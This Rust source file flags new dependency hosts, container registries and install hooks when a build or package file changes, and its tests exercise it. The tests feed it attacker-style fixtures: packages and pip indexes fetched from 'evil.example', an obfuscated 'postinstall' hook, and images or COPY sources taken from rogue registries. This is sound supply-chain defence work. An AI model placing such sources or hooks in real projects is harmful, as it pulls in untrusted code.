//! Where a file of a build or of dependencies takes things from, that its version before did not.

use std::collections::BTreeSet;

use super::pack::PACK;

/// Bytes of a file that are looked at; a larger one counts as a new source.
pub const MOST: usize = 8 << 20;

/// How many hosts and kinds of sources `after` names that `before` does not; `known` are hosts that something comes from already.
#[must_use]
pub fn new_sources(before: &[u8], after: &[u8]) -> usize {
    if after.len() >= MOST {
        return 1;
    }
    let Some(after) = readable(after) else { return 1 };
    let before = readable(before).unwrap_or_default();
    let known: BTreeSet<String> = hosts(&before).into_iter().chain(registries(&before)).collect();
    let is_known = |host: &str| PACK.sources.hosts.iter().any(|h| h == host) || known.contains(host);
    let all: BTreeSet<String> = hosts(&after).into_iter().chain(registries(&after)).collect();
    let hosts = all.into_iter().filter(|host| !is_known(host)).count();
    let more = |mark: &&String| after.matches(mark.as_str()).count() > before.matches(mark.as_str()).count();
    hosts + PACK.sources.marks.iter().filter(more).count()
}

/// The text in lower case; JSON without its escapes and blanks.
fn readable(bytes: &[u8]) -> Option<String> {
    if bytes.contains(&0) {
        return None;
    }
    let text = std::str::from_utf8(bytes).ok()?;
    let plain =
        serde_json::from_str::<serde_json::Value>(text).map_or_else(|_| text.to_owned(), |v| v.to_string());
    Some(plain.to_lowercase())
}

fn hosts(text: &str) -> BTreeSet<String> {
    let after = text.match_indices("//").filter_map(|(at, _)| text.get(at + 2..));
    let of = |rest: &str| {
        let end = rest.find(|c: char| {
            !(c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | '@' | ':' | '%' | '[' | ']'))
        });
        let authority = rest.get(..end.unwrap_or(rest.len())).unwrap_or_default();
        let host = authority.rsplit('@').next().unwrap_or_default();
        let host = host.split(':').next().unwrap_or_default();
        // A comment of JavaScript or Go is no address.
        host.contains('.').then(|| host.to_owned())
    };
    after.filter_map(of).collect()
}

/// Where images of containers come from: a first name with a dot or a port is a registry.
fn registries(text: &str) -> BTreeSet<String> {
    const BEFORE: [&str; 4] = ["from ", "image:", "# syntax=", "#syntax="];
    let named = text.lines().flat_map(|line| {
        let line = line.trim_start_matches([' ', '\t', '-']);
        let words = BEFORE.iter().find_map(|mark| line.strip_prefix(mark));
        let image = words.and_then(|words| words.split_whitespace().find(|word| !word.starts_with("--")));
        let copied = line.split_whitespace().find_map(|word| word.strip_prefix("--from="));
        let mounted = line.split(',').find_map(|part| part.strip_prefix("from="));
        [image, copied, mounted]
    });
    let registry = |image: &str| {
        let (host, _) = image.trim_matches(['"', '\'']).split_once('/')?;
        let host = host.split_once(':').map_or(host, |(host, _)| host);
        (host.contains('.') || image.contains(&format!("{host}:")) && host != image).then(|| host.to_owned())
    };
    named.flatten().filter_map(registry).filter(|host| !host.is_empty()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_nothing_came_from_before_is_new() {
        let before = br#"{"name":"a","homepage":"https://a.example/x","dependencies":{"left-pad":"^1.0.0"}}"#;
        let quiet = br#"{"name":"a","homepage":"https://a.example/y","dependencies":{"left-pad":"^2.0.0","chalk":"5"},"scripts":{"test":"jest"}}"#;
        assert_eq!(new_sources(before, quiet), 0);
        for loud in [
            r#"{"dependencies":{"x":"https://evil.example/x.tgz"}}"#,
            r#"{"dependencies":{"x":"github:evil/x"}}"#,
            r#"{"dependencies":{"x":"git+ssh://git@a.example/x"}}"#,
            r#"{"scripts":{"postinstall":"node x.js"}}"#,
            r#"{"scripts":{"post\u0069nstall":"node x.js"}}"#,
        ] {
            assert!(new_sources(before, loud.as_bytes()) > 0, "{loud}");
        }
        assert_eq!(new_sources(b"", b"requests==2.0\nurllib3\n"), 0);
        assert!(new_sources(b"", b"--index-url https://evil.example/simple\n") > 0);
        assert_eq!(new_sources(b"", b"resolved \"https://registry.npmjs.org/x/-/x-1.tgz\""), 0);
        assert!(new_sources(b"", b"\xff\xfeh\0") > 0);
    }

    #[test]
    fn an_image_of_another_registry_is_a_new_source() {
        let before = b"FROM debian:12 AS a\nFROM known.example/x\n";
        for quiet in [
            "FROM alpine\n",
            "FROM org/x:1\n",
            "from known.example/y\n",
            "FROM --platform=linux docker.io/x\n",
            "from a.b import c\n",
        ] {
            assert_eq!(new_sources(before, quiet.as_bytes()), 0, "{quiet}");
        }
        for loud in [
            "FROM evil.example/x\n",
            "FROM --platform=x evil.example:5000/x\n",
            "COPY --from=evil.example/x /a /b\n",
            "# syntax=evil.example/x\n",
            "services:\n  a:\n    image: \"evil.example/x\"\n",
            "RUN --mount=type=bind,from=evil.example/x true\n",
        ] {
            assert_eq!(new_sources(before, loud.as_bytes()), 1, "{loud}");
        }
    }
}
